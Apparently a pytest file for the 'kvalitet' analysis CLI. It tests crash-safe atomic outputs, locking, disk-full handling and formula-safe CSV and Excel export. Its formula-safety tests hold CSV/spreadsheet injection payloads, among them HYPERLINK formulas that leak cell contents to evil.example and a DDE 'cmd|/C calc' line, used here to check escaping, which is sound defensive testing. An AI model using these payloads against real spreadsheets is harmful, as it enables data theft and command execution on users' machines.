@@ -1,0 +1,686 @@
+"""Outputs never touch what kvalitet did not write, are all or nothing, survive kill -9 at any
+point, take turns, and fail cleanly on a full or read-only disk (analysis/outputs.py).
+
+Each case of issue 10 ("user files deleted", "faults") is built here from scratch. The
+disk-full cases run on a real full file system (a 2 MB tmpfs mounted for the test, when the
+tests run as root and may mount) and on a file-size limit (RLIMIT_FSIZE: EFBIG, everywhere).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import random
+import resource
+import shutil
+import signal
+import stat
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from analysis import outputs, paths
+from analysis.cli import main
+from conftest import PYTHON, tree_snapshot
+
+SEED = "seed_hovedopptak_andel_kvinner_2007_2018.csv"
+INTEGRATION = "seed_studiebarometeret_2017_integrering.csv"
+NOTHING_CHANGED = "; nothing was changed"
+
+
+def python() -> str:
+    return str(PYTHON) if PYTHON.exists() else sys.executable
+
+
+def kvalitet(*args, env: dict | None = None, **kwargs) -> subprocess.CompletedProcess:
+    """``python -m analysis ARGS`` in a subprocess (the real entry point)."""
+    env = env or dict(os.environ, PYTHONIOENCODING="utf-8")
+    return subprocess.run([python(), "-m", "analysis", *map(str, args)], cwd=paths.ROOT, env=env,
+                          capture_output=True, text=True, encoding="utf-8", timeout=300, **kwargs)
+
+
+def leftovers(parent: Path, name: str) -> list[str]:
+    """What a run leaves beside its output besides the output itself (locks, temporary folders)."""
+    return sorted(p.name for p in parent.iterdir() if p.name.startswith(f".{name}.kvalitet"))
+
+
+@pytest.fixture(scope="module")
+def raws(tmp_path_factory) -> dict[str, Path]:
+    """Two raw folders that give two different ingest outputs (A: the admission table; B: the
+    admission table and the 2017 integration extract)."""
+    base = tmp_path_factory.mktemp("raws")
+    a, b = base / "A", base / "B"
+    a.mkdir()
+    b.mkdir()
+    shutil.copy(paths.RAW / SEED, a)
+    shutil.copy(paths.RAW / SEED, b)
+    shutil.copy(paths.RAW / INTEGRATION, b)
+    return {"A": a, "B": b}
+
+
+@pytest.fixture(scope="module")
+def snapshots(raws, tmp_path_factory) -> dict[str, dict[str, bytes]]:
+    """The complete ingest output of each raw folder, byte for byte (marker included)."""
+    snaps = {}
+    for name, raw in raws.items():
+        out = tmp_path_factory.mktemp(f"snap{name}") / "validated"
+        assert main(["ingest", "--data", str(raw), "--out", str(out)]) == 0
+        snaps[name] = tree_snapshot(out)
+        assert outputs.MARKER in snaps[name]
+    assert snaps["A"] != snaps["B"]
+    return snaps
+
+
+# --- ownership: a folder is kvalitet's only by its marker ---------------------------------------
+
+
+def _user_folder(folder: Path) -> dict[str, bytes]:
+    """A folder of the adviser's that merely has a manifest.json (the case that lost a .docx)."""
+    folder.mkdir(parents=True)
+    (folder / "manifest.json").write_text('{"notebooks": [], "outputs": [], "stage": "validated", "inputs": []}')
+    (folder / "kvalitetsmelding-utkast.docx").write_bytes(b"PK\x03\x04 my draft")
+    (folder / "data").mkdir()
+    (folder / "data" / "svar.csv").write_text("studprog_kod;aar\nA;2024\n")
+    return tree_snapshot(folder)
+
+
+def test_report_and_ingest_refuse_a_folder_with_only_a_manifest(tmp_path, capsys):
+    folder = tmp_path / "rapport"
+    before = _user_folder(folder)
+    assert main(["report", "--no-static", "--out", str(folder)]) == 1
+    err = capsys.readouterr().err
+    assert "not an earlier report" in err and outputs.MARKER in err and "Traceback" not in err
+    assert main(["ingest", "--data", str(paths.RAW), "--out", str(folder)]) == 1
+    err = capsys.readouterr().err
+    assert "not an earlier validated data" in err
+    assert tree_snapshot(folder) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["rapport"], "no lock or temporary folder left"
+
+
+def test_an_earlier_output_with_a_file_of_the_user_is_not_replaced(tmp_path, raws, snapshots, capsys):
+    out = tmp_path / "validated"
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    (out / "notater.docx").write_bytes(b"mine")
+    (out / "extra").mkdir()
+    (out / "extra" / "x.csv").write_text("1\n")
+    before = tree_snapshot(out)
+    capsys.readouterr()
+    assert main(["ingest", "--data", str(raws["B"]), "--out", str(out)]) == 1
+    err = capsys.readouterr().err
+    assert "holds files kvalitet did not write: extra, notater.docx" in err
+    assert tree_snapshot(out) == before
+    # moved out, the folder is the earlier output again and is replaced
+    shutil.rmtree(out / "extra")
+    (out / "notater.docx").unlink()
+    assert main(["ingest", "--data", str(raws["B"]), "--out", str(out)]) == 0
+    assert tree_snapshot(out) == snapshots["B"]
+
+
+def test_an_output_of_another_kind_is_not_replaced(tmp_path, raws, capsys):
+    out = tmp_path / "validated"
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    before = tree_snapshot(out)
+    with pytest.raises(Exception, match="holds an earlier validated data, not an earlier report"):
+        from analysis.report.build import build_report
+
+        build_report(out_dir=out, static=False, progress=lambda _: None)
+    assert tree_snapshot(out) == before
+
+
+def test_an_empty_folder_may_be_the_output(tmp_path, raws, snapshots):
+    out = tmp_path / "validated"
+    out.mkdir()
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    assert tree_snapshot(out) == snapshots["A"]
+
+
+def test_an_output_that_is_or_is_inside_an_input_is_refused(tmp_path, capsys):
+    data = tmp_path / "data"
+    data.mkdir()
+    table = data / SEED
+    shutil.copy(paths.RAW / SEED, table)
+    before = tree_snapshot(tmp_path)
+    cases = [
+        (["flags", table, "--out", table.with_suffix(".csv")], "is an input"),
+        (["flags", data, "--out", data / "flags.csv"], "is inside the input folder"),
+        (["wellbeing", data, "--out", data / "w.parquet"], "is inside the input folder"),
+        (["integration", table, "--config", tmp_path / "x.toml", "--out", tmp_path / "x.toml"], "--out must end in"),
+        (["survey", data, "--out", data], "is an input"),
+        (["survey", data, "--out", data / "s.csv"], "is inside the input folder"),
+        (["ingest", "--data", data, "--out", data], "is an input"),
+        (["ingest", "--data", data, "--out", data / "validated"], "is inside the input folder"),
+        (["ingest", "--data", data, "--out", tmp_path], "is inside --out"),
+        (["report", "--data", data, "--out", tmp_path], "is inside --out"),
+    ]
+    for args, expected in cases:
+        assert main([str(a) for a in args]) == 2, args
+        err = capsys.readouterr().err
+        assert expected in err and "Traceback" not in err, (args, err)
+    # the same file by another name (a hard link, a symbolic link) is the same input
+    os.link(table, tmp_path / "link.csv")
+    (tmp_path / "sym.csv").symlink_to(table)
+    before = tree_snapshot(tmp_path)
+    for other in ("link.csv", "sym.csv"):
+        assert main(["flags", str(table), "--out", str(tmp_path / other)]) == 2
+        assert "is an input" in capsys.readouterr().err
+    assert tree_snapshot(tmp_path) == before
+
+
+# --- one run at a time ------------------------------------------------------------------------------
+
+
+def test_a_second_run_into_the_same_output_says_another_run_is_busy(tmp_path, raws, snapshots, capsys):
+    out = tmp_path / "validated"
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    holder = outputs._Lock(outputs.Path(os.path.abspath(out)))
+    holder.acquire()  # another run, as far as the lock can tell
+    try:
+        capsys.readouterr()
+        assert main(["ingest", "--data", str(raws["B"]), "--out", str(out)]) == 1
+        err = capsys.readouterr().err
+        assert f"kvalitet ingest: another kvalitet run (process {os.getpid()}) is writing {out.absolute()}; " \
+               "wait for it to finish and run again" in err
+        assert tree_snapshot(out) == snapshots["A"]
+        table = tmp_path / "flags.csv"
+        holder_file = outputs._Lock(outputs.Path(os.path.abspath(table)))
+        holder_file.acquire()
+        assert main(["flags", str(raws["A"]), "--out", str(table)]) == 1
+        assert "another kvalitet run" in capsys.readouterr().err and not table.exists()
+        holder_file.release()
+        report = tmp_path / "report"
+        holder_report = outputs._Lock(outputs.Path(os.path.abspath(report)))
+        holder_report.acquire()
+        assert main(["report", "--no-static", "--out", str(report)]) == 1
+        err = capsys.readouterr().err
+        assert f"kvalitet report: another kvalitet run (process {os.getpid()}) is writing {report}" in err
+        assert "The report was not built; the earlier report (if any) is unchanged." in err
+        holder_report.release()
+        assert not report.exists()
+    finally:
+        holder.release()
+    assert main(["ingest", "--data", str(raws["B"]), "--out", str(out)]) == 0
+    assert tree_snapshot(out) == snapshots["B"]
+    assert leftovers(tmp_path, "validated") == []
+
+
+def test_two_concurrent_runs_never_race(tmp_path, raws, snapshots):
+    """Two real processes into the same --out, started together, three times: each finishes or
+    says another run is busy; the output is always one complete output; nothing is left."""
+    out = tmp_path / "validated"
+    env = dict(os.environ, PYTHONIOENCODING="utf-8")
+    for _ in range(3):
+        procs = [subprocess.Popen([python(), "-m", "analysis", "ingest", "--data", str(raws[k]), "--out", str(out)],
+                                  cwd=paths.ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+                 for k in ("A", "B")]
+        results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
+        for p in procs:
+            p.stdout.close()
+            p.stderr.close()
+        for rc, err in results:
+            assert rc == 0 or (rc == 1 and "another kvalitet run" in err), err
+            assert "unexpected" not in err and "Traceback" not in err
+        assert any(rc == 0 for rc, _ in results)
+        assert tree_snapshot(out) in (snapshots["A"], snapshots["B"])
+        assert leftovers(tmp_path, "validated") == []
+
+
+# --- crash-safe swap ----------------------------------------------------------------------------------
+
+# Runs the CLI with the swap instrumented to kill the process (SIGKILL) at the worst moment.
+_CRASH = r"""
+import os, signal, sys
+from analysis import outputs
+where = sys.argv[1]
+if where == "after-exchange":
+    real = outputs._rename2
+    def rename2(src, dst, flags):
+        done = real(src, dst, flags)
+        if done and flags == outputs._RENAME_EXCHANGE:
+            os.kill(os.getpid(), signal.SIGKILL)
+        return done
+    outputs._rename2 = rename2
+elif where == "between-renames":
+    outputs.EXCHANGE = False  # the two-rename swap of file systems that cannot exchange
+    real = os.rename
+    def rename(src, dst):
+        real(src, dst)
+        if str(dst).endswith("/old"):
+            os.kill(os.getpid(), signal.SIGKILL)
+    outputs.os.rename = rename
+elif where == "between-files":
+    real = os.replace
+    def replace(src, dst):
+        real(src, dst)
+        os.kill(os.getpid(), signal.SIGKILL)
+    outputs.os.replace = replace
+from analysis.cli import main
+sys.exit(main(sys.argv[2:]))
+"""
+
+
+def crash(where: str, *args) -> subprocess.CompletedProcess:
+    env = dict(os.environ, PYTHONIOENCODING="utf-8")
+    return subprocess.run([python(), "-c", _CRASH, where, *map(str, args)], cwd=paths.ROOT, env=env,
+                          capture_output=True, text=True, timeout=300)
+
+
+def test_killed_right_after_the_exchange_the_new_output_is_official(tmp_path, raws, snapshots):
+    out = tmp_path / "validated"
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    proc = crash("after-exchange", "ingest", "--data", raws["B"], "--out", out)
+    assert proc.returncode == -signal.SIGKILL
+    assert tree_snapshot(out) == snapshots["B"]  # complete at once: no moment without an output
+    assert leftovers(tmp_path, "validated"), "the killed run left its temporary folder (with the old output)"
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    assert tree_snapshot(out) == snapshots["A"]
+    assert leftovers(tmp_path, "validated") == [], "the next start removed what the killed run left"
+
+
+def test_killed_between_the_two_renames_the_next_start_restores_the_last_good_output(tmp_path, raws, snapshots,
+                                                                                   capsys):
+    out = tmp_path / "validated"
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    proc = crash("between-renames", "ingest", "--data", raws["B"], "--out", out)
+    assert proc.returncode == -signal.SIGKILL
+    assert not out.exists()  # the window the exchange closes, on a file system that cannot exchange
+    # the next start, even one that then fails on its input, puts the last good output back first
+    bad = tmp_path / "bad"
+    bad.mkdir()
+    (bad / "x.csv").write_text("Studieprogram;2017\nA;abc\n", encoding="utf-8")
+    capsys.readouterr()
+    assert main(["ingest", "--data", str(bad), "--out", str(out)]) == 1
+    captured = capsys.readouterr()
+    assert "put back the earlier" in captured.out
+    assert tree_snapshot(out) == snapshots["A"]
+    assert leftovers(tmp_path, "validated") == []
+
+
+def test_several_files_are_all_new_or_all_old(tmp_path):
+    """survey --out s.csv writes three files together: killed between two of the renames, the
+    next start completes the set (the journal is the commit point)."""
+    from analysis.synth import generate_respondents, write_respondents
+
+    data = tmp_path / "in"
+    data.mkdir()
+    write_respondents(generate_respondents(400, 4, 5, 2, seed=1), data / "r1.csv")
+    out = tmp_path / "out" / "s.csv"
+    out.parent.mkdir()
+    assert main(["survey", str(data), "--out", str(out)]) == 0
+    names = ["s.csv", "s_indices.csv", "s_changes.csv"]
+    old = {n: (out.parent / n).read_bytes() for n in names}
+    write_respondents(generate_respondents(400, 4, 5, 2, seed=2), data / "r1.csv")
+    expected = tmp_path / "expected" / "s.csv"
+    expected.parent.mkdir()
+    assert main(["survey", str(data), "--out", str(expected)]) == 0
+    new = {n: (expected.parent / n).read_bytes() for n in names}
+    assert new != old
+    proc = crash("between-files", "survey", data, "--out", out)
+    assert proc.returncode == -signal.SIGKILL
+    now = {n: (out.parent / n).read_bytes() for n in names}
+    assert now != old and now != new, "killed half-way (this is what the journal repairs)"
+    files = outputs.OutputFiles([out.parent / n for n in names])
+    files.open()
+    files.close()
+    assert {n: (out.parent / n).read_bytes() for n in names} == new
+    assert sorted(p.name for p in out.parent.iterdir()) == sorted(names)
+
+
+@pytest.mark.slow
+def test_kill_9_at_random_points_of_ingest_leaves_the_last_good_output(tmp_path, raws, snapshots):
+    rng = random.Random(20251)
+    out = tmp_path / "validated"
+    env = dict(os.environ, PYTHONIOENCODING="utf-8")
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    for i in range(10):
+        raw = raws["B" if i % 2 == 0 else "A"]
+        proc = subprocess.Popen([python(), "-m", "analysis", "ingest", "--data", str(raw), "--out", str(out)],
+                                cwd=paths.ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        time.sleep(rng.uniform(0.5, 3.5))
+        proc.send_signal(signal.SIGKILL)
+        proc.wait()
+        assert tree_snapshot(out) in (snapshots["A"], snapshots["B"]), f"kill {i}: the official output is whole"
+    assert main(["ingest", "--data", str(raws["B"]), "--out", str(out)]) == 0
+    assert tree_snapshot(out) == snapshots["B"]
+    assert leftovers(tmp_path, "validated") == [], "no stale temporary data after the next start"
+
+
+@pytest.mark.slow
+def test_kill_9_at_random_points_of_report_leaves_the_last_good_report(tmp_path):
+    out = tmp_path / "report"
+    assert kvalitet("report", "--no-static", "--out", out).returncode == 0
+    good = tree_snapshot(out)
+    rng = random.Random(7)
+    shared_tmp = tmp_path / "shared-tmp"  # the temporary folder the runs see ($TMPDIR)
+    shared_tmp.mkdir()
+    env = dict(os.environ, PYTHONIOENCODING="utf-8", TMPDIR=str(shared_tmp))
+    for i in range(4):
+        proc = subprocess.Popen([python(), "-m", "analysis", "report", "--no-static", "--out", str(out)],
+                                cwd=paths.ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        time.sleep(rng.uniform(2, 16))
+        proc.send_signal(signal.SIGKILL)
+        proc.wait()
+        now = tree_snapshot(out)
+        manifest = json.loads(now["manifest.json"])
+        # a finished build differs from the earlier one only in its timestamps (manifest) — or it is the earlier one
+        assert {k: v for k, v in now.items() if k != "manifest.json"} == \
+               {k: v for k, v in good.items() if k != "manifest.json"}, f"kill {i}"
+        assert sorted(o["file"] for o in manifest["outputs"]) == sorted(
+            k for k in now if k not in ("manifest.json", outputs.MARKER))
+    assert kvalitet("report", "--no-static", "--out", out, env=env).returncode == 0
+    assert leftovers(tmp_path, "report") == [], "no stale temporary data after the next start"
+    # nothing of kvalitet's, and no data, in the shared temporary folder (Jupyter's own kernel
+    # connection files of killed runs may remain: they hold no data)
+    assert not [p.name for p in shared_tmp.rglob("*") if p.name.startswith("kvalitet") or p.suffix == ".pickle"]
+
+
+def test_stale_temporary_folders_and_locks_are_removed_at_the_next_start(tmp_path, raws, snapshots):
+    out = tmp_path / "validated"
+    stale = tmp_path / ".validated.kvalitet-tmp-dead1234" / "scratch"
+    stale.mkdir(parents=True)
+    (stale / "report-data.pickle").write_bytes(b"respondent data of a killed run")
+    (tmp_path / ".validated.kvalitet-lock").write_text("99999\n")
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    assert tree_snapshot(out) == snapshots["A"]
+    assert leftovers(tmp_path, "validated") == []
+
+
+def test_a_report_build_keeps_its_data_in_a_private_folder_beside_the_output(tmp_path, monkeypatch):
+    """Nothing with data in the shared temporary folder; the build's scratch is 0700 and gone
+    after the build."""
+    import tempfile
+
+    from analysis.report import build
+
+    shared = tmp_path / "shared-tmp"
+    shared.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(shared))
+    seen = {}
+    real = build.execute_notebooks
+
+    def spy(*args, work=None, **kwargs):
+        private = Path(work).parent
+        seen["private"] = private
+        seen["mode"] = stat.S_IMODE(private.stat().st_mode)
+        return real(*args, work=work, **kwargs)
+
+    monkeypatch.setattr(build, "execute_notebooks", spy)
+    out = tmp_path / "out" / "report"
+    build.build_report(out_dir=out, static=False, progress=lambda _: None)
+    assert seen["private"].parent == out.parent and seen["private"].name.startswith(".report.kvalitet-tmp-")
+    assert seen["mode"] == 0o700
+    assert not seen["private"].exists()
+    assert list(shared.iterdir()) == []
+    assert leftovers(out.parent, "report") == []
+
+
+def test_a_failed_notebook_is_kept_privately_under_a_new_name(tmp_path, private_state_dir):
+    from analysis.report.notebooks import keep_failed
+
+    notebook = tmp_path / "04_studiebarometeret.ipynb"
+    notebook.write_text('{"cells": []}', encoding="utf-8")
+    kept = [keep_failed(notebook), keep_failed(notebook)]
+    assert kept[0] != kept[1] and all(k.parent == private_state_dir for k in kept)
+    assert all(k.read_text(encoding="utf-8") == '{"cells": []}' for k in kept)
+    assert all(stat.S_IMODE(k.stat().st_mode) == 0o600 for k in kept)
+    assert stat.S_IMODE(private_state_dir.stat().st_mode) == 0o700
+    # a symbolic link is never followed (the old fixed $TMPDIR name could be planted)
+    link = tmp_path / "05_shot.ipynb"
+    link.symlink_to(tmp_path / "elsewhere.ipynb")
+    (tmp_path / "elsewhere.ipynb").write_text("secret", encoding="utf-8")
+    assert keep_failed(link) is None
+
+
+# --- disk full, read-only ------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def small_disk(tmp_path):
+    """A 2 MB tmpfs mounted for the test (root only; skipped where mounting is not allowed)."""
+    if os.geteuid() != 0 or shutil.which("mount") is None:
+        pytest.skip("mounting a small file system needs root")
+    disk = tmp_path / "disk"
+    disk.mkdir()
+    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(disk)], capture_output=True).returncode:
+        pytest.skip("this machine does not allow mounting a tmpfs")
+    yield disk
+    subprocess.run(["umount", "-l", str(disk)], capture_output=True)
+
+
+def fill(disk: Path) -> None:
+    """Fill the file system to the last byte."""
+    with open(disk / "filler", "wb", buffering=0) as fh:
+        for size in (1 << 16, 512, 1):
+            try:
+                while True:
+                    fh.write(b"\0" * size)
+            except OSError:
+                pass
+
+
+def test_disk_full_changes_nothing_for_every_command_that_writes(small_disk, raws, snapshots):
+    """Simulated with a real full file system (tmpfs of 2 MB, filled to the last byte)."""
+    from analysis.synth import generate_respondents, write_respondents
+
+    respondents = small_disk.parent / "respondents"
+    respondents.mkdir()
+    write_respondents(generate_respondents(3000, 8, 20, 2, seed=4), respondents / "r.csv")
+    out = small_disk / "validated"
+    assert kvalitet("ingest", "--data", raws["A"], "--out", out).returncode == 0
+    assert kvalitet("survey", respondents, "--out", small_disk / "s.csv").returncode == 0
+    assert kvalitet("flags", raws["A"], "--out", small_disk / "flags.csv").returncode == 0
+    fill(small_disk)
+    before = tree_snapshot(small_disk)
+    runs = {
+        "ingest": (["ingest", "--data", raws["B"], "--out", out], out),
+        "survey": (["survey", respondents, "--out", small_disk / "s.csv"], small_disk / "s.csv"),
+        "flags": (["flags", raws["B"], "--out", small_disk / "flags.csv"], small_disk / "flags.csv"),
+        "integration": (["integration", raws["B"], "--out", small_disk / "i.csv"], small_disk / "i.csv"),
+        "synth": (["synth", "--respondents", "20000", "--out", small_disk / "big.parquet"], small_disk / "big.parquet"),
+    }
+    for command, (args, target) in runs.items():
+        proc = kvalitet(*args)
+        assert proc.returncode == 1, (command, proc.stderr)
+        assert f"kvalitet {command}: could not write {Path(os.path.abspath(target))}" in proc.stderr, proc.stderr
+        assert "no space left (free space and run again)" + NOTHING_CHANGED in proc.stderr
+        assert "Traceback" not in proc.stderr and "unexpected" not in proc.stderr
+        assert tree_snapshot(small_disk) == before, command
+        assert sorted(p.name for p in small_disk.iterdir() if p.name.startswith(".")) == [], command
+
+
+def test_a_file_size_limit_changes_nothing(tmp_path, raws, snapshots):
+    """Simulated with RLIMIT_FSIZE (works without root): the write fails with EFBIG."""
+    out = tmp_path / "validated"
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    env = dict(os.environ, PYTHONIOENCODING="utf-8")
+    proc = subprocess.run([python(), "-m", "analysis", "ingest", "--data", str(raws["B"]), "--out", str(out)],
+                          cwd=paths.ROOT, env=env, capture_output=True, text=True, timeout=300,
+                          preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (3000, 3000)))
+    assert proc.returncode == 1
+    assert f"could not write {out}" in proc.stderr and NOTHING_CHANGED in proc.stderr, proc.stderr
+    assert "Traceback" not in proc.stderr
+    assert tree_snapshot(out) == snapshots["A"]
+    assert leftovers(tmp_path, "validated") == []
+
+
+def test_a_read_only_folder_changes_nothing(tmp_path, raws, snapshots):
+    """Root: a tmpfs remounted read-only (EROFS); others: a folder without write permission
+    (EACCES; root is not stopped by permissions)."""
+    if os.geteuid() == 0:
+        folder = tmp_path / "ro"
+        folder.mkdir()
+        if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(folder)],
+                          capture_output=True).returncode:
+            pytest.skip("this machine does not allow mounting a tmpfs")
+        reason = "the folder is on a read-only file system (choose another --out)"
+    else:
+        folder = tmp_path / "ro"
+        folder.mkdir()
+        reason = "no permission to write there"
+    try:
+        out = folder / "validated"
+        assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+        if os.geteuid() == 0:
+            subprocess.run(["mount", "-o", "remount,ro", str(folder)], check=True)
+        else:
+            folder.chmod(0o555)
+        for args, target in ((["ingest", "--data", raws["B"], "--out", out], out),
+                             (["flags", raws["B"], "--out", folder / "f.csv"], folder / "f.csv")):
+            proc = kvalitet(*args)
+            assert proc.returncode == 1, proc.stderr
+            assert f"could not write {target}: {reason}" in proc.stderr and NOTHING_CHANGED in proc.stderr, proc.stderr
+            assert "Traceback" not in proc.stderr
+        assert tree_snapshot(out) == snapshots["A"]
+    finally:
+        if os.geteuid() == 0:
+            subprocess.run(["umount", "-l", str(folder)], capture_output=True)
+        else:
+            folder.chmod(0o755)
+
+
+@pytest.mark.slow
+def test_report_on_a_full_disk_changes_nothing(tmp_path):
+    if os.geteuid() != 0:
+        pytest.skip("mounting a small file system needs root")
+    disk = tmp_path / "disk"
+    disk.mkdir()
+    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=24m", "tmpfs", str(disk)], capture_output=True).returncode:
+        pytest.skip("this machine does not allow mounting a tmpfs")
+    try:
+        out = disk / "report"
+        assert kvalitet("report", "--no-static", "--out", out).returncode == 0
+        fill(disk)
+        before = tree_snapshot(disk)
+        # --force: nothing changed, so without it the build would rightly stop at "up to date"
+        proc = kvalitet("report", "--no-static", "--force", "--out", out)
+        assert proc.returncode == 1
+        assert f"kvalitet report: could not write {out}" in proc.stderr, proc.stderr
+        assert "no space left (free space and run again)" + NOTHING_CHANGED in proc.stderr
+        assert "Traceback" not in proc.stderr
+        assert tree_snapshot(disk) == before
+    finally:
+        subprocess.run(["umount", "-l", str(disk)], capture_output=True)
+
+
+# --- formula-safe outputs ------------------------------------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1;"Klikk")', "+47 cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)",
+           "\tTab", "\rCR"]
+
+
+def test_formula_safe_prefixes_text_and_leaves_numbers():
+    frame = pd.DataFrame({
+        "name": HOSTILE + ["Datateknologi"],
+        "text number": ["-1.5", "+3", "-", "2", "x", None, "-0,5"],
+        "change": [-1.5, 2.0, -3.0, 0.0, 1.0, None, -0.25],
+        "n": pd.array([-1, 2, 3, 4, 5, None, 7], dtype="Int64"),
+        "category": pd.Categorical(["=1", "ok", "=1", "ok", "ok", "ok", "ok"]),
+        "=header": ["a"] * 7,
+    })
+    safe = outputs.formula_safe(frame)
+    assert safe["name"].tolist() == ["'" + h for h in HOSTILE] + ["Datateknologi"]
+    # text that is exactly a number is a number, not a formula; a lone "-" is text a spreadsheet keeps
+    assert safe["text number"].tolist()[:5] == ["-1.5", "+3", "'-", "2", "x"]
+    assert safe["text number"].tolist()[6] == "-0,5"
+    pd.testing.assert_series_equal(safe["change"], frame["change"])
+    pd.testing.assert_series_equal(safe["n"], frame["n"])
+    assert safe["category"].tolist()[0] == "'=1"
+    assert list(safe.columns)[-1] == "'=header"
+    assert frame["name"].tolist()[0] == HOSTILE[0], "the caller's frame is not changed"
+
+
+def test_workbook_cells_are_text_never_formulas(tmp_path):
+    import openpyxl
+    from openpyxl.utils.escape import unescape
+
+    from analysis.report.workbook import write_workbook
+
+    flags = pd.DataFrame({"unit_name": HOSTILE, "share_women": [0.1, 0.2, 0.3, 0.4, 0.5, 0.6],
+                          "change": [-1.0, -2.5, 3.0, 0.0, -0.1, 1.0], "url": ["http://x.example"] * 6})
+    path = write_workbook({"flags": flags}, tmp_path / "k.xlsx", "nb")
+    book = openpyxl.load_workbook(path)  # not read-only, not data-only: formulas would show as such
+    ws = book["flags"]
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    # (xlsxwriter stores a carriage return as Excel's _x000D_ escape; Excel shows it as such a character)
+    assert [unescape(ws.cell(row=r, column=1).value) for r in range(2, 8)] == HOSTILE
+    assert [ws.cell(row=r, column=3).value for r in range(2, 8)] == [-1.0, -2.5, 3.0, 0.0, -0.1, 1.0]
+    assert all(ws.cell(row=r, column=3).data_type == "n" for r in range(2, 8))
+    assert not ws["D2"].hyperlink
+
+
+def test_csv_outputs_of_the_commands_are_formula_safe(tmp_path, capsys):
+    import csv
+
+    table = tmp_path / "opptak.csv"
+    lines = ["Studieprogram;2017;2018"] + [f"{name.replace(';', ',')};30 %;45 %" for name in HOSTILE[:4]]
+    table.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out = tmp_path / "flags.csv"
+    assert main(["flags", str(table), "--out", str(out)]) == 0
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    names = {r["unit_name"] for r in rows}
+    assert names == {"'" + n.replace(";", ",") for n in HOSTILE[:4]}
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(outputs.FORMULA_START) or outputs._PLAIN_NUMBER.match(value), value
+        float(row["year"])  # numbers stay numbers
+
+
+def test_sigterm_stops_a_run_cleanly(tmp_path, raws, snapshots):
+    """``kill PID`` (SIGTERM) is handled like Ctrl-C: the earlier output stays, and the run
+    removes its temporary folder and lock itself (no need to wait for the next start)."""
+    from analysis.synth import generate_respondents, write_respondents
+
+    raw = tmp_path / "raw"
+    shutil.copytree(raws["B"], raw)
+    write_respondents(generate_respondents(300_000, 40, 200, 2, seed=5), raw / "respondents.parquet")
+    out = tmp_path / "validated"
+    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
+    env = dict(os.environ, PYTHONIOENCODING="utf-8")
+    proc = subprocess.Popen([python(), "-m", "analysis", "ingest", "--data", str(raw), "--out", str(out)],
+                            cwd=paths.ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 120
+    while not (tmp_path / ".validated.kvalitet-lock").exists() and time.monotonic() < deadline:
+        time.sleep(0.05)
+    proc.send_signal(signal.SIGTERM)
+    err = proc.communicate(timeout=120)[1]
+    assert proc.returncode == 130, err
+    assert "interrupted; nothing was replaced" in err and "Traceback" not in err
+    assert tree_snapshot(out) == snapshots["A"]
+    assert leftovers(tmp_path, "validated") == []
+
+
+@pytest.mark.slow
+def test_a_report_from_hostile_names_has_no_formula_anywhere(tmp_path):
+    """A programme named like a formula goes through the whole report: the workbook has no
+    formula cell and no CSV cell starts a formula."""
+    import csv
+
+    import openpyxl
+
+    raw = tmp_path / "raw"
+    shutil.copytree(paths.RAW, raw)
+    table = raw / SEED
+    table.chmod(0o644)
+    evil = '=HYPERLINK("http://evil.example/?d="&B2,"Kybernetikk")'
+    text = table.read_text(encoding="utf-8").replace("Kybernetikk;", '"' + evil.replace('"', '""') + '";')
+    table.write_text(text.replace("Datateknologi;", "@SUM(1+1)*cmd;"), encoding="utf-8")
+    out = tmp_path / "report"
+    proc = kvalitet("report", "--no-static", "--data", raw, "--out", out)
+    assert proc.returncode == 0, proc.stderr
+    book = openpyxl.load_workbook(out / "kvalitetsmelding.xlsx")
+    values = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in values if c.data_type == "f"]
+    assert evil in {c.value for c in values}, "the name is in the workbook, as text"
+    seen = False
+    for path in (out / "tables").glob("*.csv"):
+        with path.open(encoding="utf-8-sig", newline="") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    assert not cell.startswith(outputs.FORMULA_START) or outputs._PLAIN_NUMBER.match(cell), (path, cell)
+                    seen = seen or cell == "'" + evil
+    assert seen, "the name is in the CSV tables, prefixed"
